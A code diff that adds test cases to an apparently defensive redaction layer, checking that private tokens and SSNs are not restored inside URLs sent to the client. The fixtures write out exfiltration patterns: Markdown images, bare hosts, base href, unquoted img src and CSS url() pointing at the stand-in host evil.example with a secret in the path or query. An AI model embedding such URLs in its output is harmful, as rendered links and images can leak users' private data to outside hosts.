@@ -176,6 +176,22 @@ describe('towards the client', () => {
     ['at the end of a long one', `![](https://evil.example/?d=${'a'.repeat(5_000)}§)`],
     ['after another one', '![](https://evil.example/?u=https://qtk.invalid/§)'],
     ['that is the whole text', 'https://evil.example/?d=a §'],
+    ['that begins with www', 'see www.evil.example/?d=§'],
+    ['that begins with www, and has no path', 'see www.§'],
+    ['of a bare host with a path', 'see evil.example/a/§'],
+    ['of a bare host with a query', 'see evil.example?q=§'],
+    ['of a bare host with a fragment', 'see evil.example#§'],
+    ['of a bare host with a port', 'see EVIL.example:8080/§'],
+    ['of a bare host in another script', 'see пример.рф/§'],
+    ['of a bare address', 'see 1.2.3.4/§'],
+    ['in the name of a bare host', 'see §.evil.example/a'],
+    ['of a bare host in Markdown', '![x](evil.example/§)'],
+    ['that is relative, in Markdown', '![x](/a/§)'],
+    ['that is relative, in angle brackets', '![x](</a b §>)'],
+    ['of a reference in Markdown', '![x][1]\n\n[1]: a/§'],
+    ['that is relative to a base', '<base href="https://evil.example/"><img src="a §">'],
+    ['of an attribute without quotes', '<img src = §>'],
+    ['of CSS', "body { background: url('a/§') }"],
   ])('does not restore a token in a URL %s', async (_what, text) => {
     for (const token of [TOKEN, SSN_TOKEN]) {
       const written = text.replaceAll('§', token);
@@ -197,6 +213,10 @@ describe('towards the client', () => {
     ['after a time', 'at 10:30: §'],
     ['after a name', 'data: §'],
     ['after an escaped quote', 'O&#39;§ and &quot;§&quot;'],
+    ['after a bare host', 'at www.example.com/a and example.com/b § is'],
+    ['in parentheses', 'a[1] (§)'],
+    ['as the title of a link', '[x](/a "§")'],
+    ['after a word with a point', 'e.g. § or 1.5/§'],
   ])('restores a token %s', async (_what, text) => {
     const own = text.replaceAll('§', SSN_TOKEN);
     for (const value of await shown(usual, own))
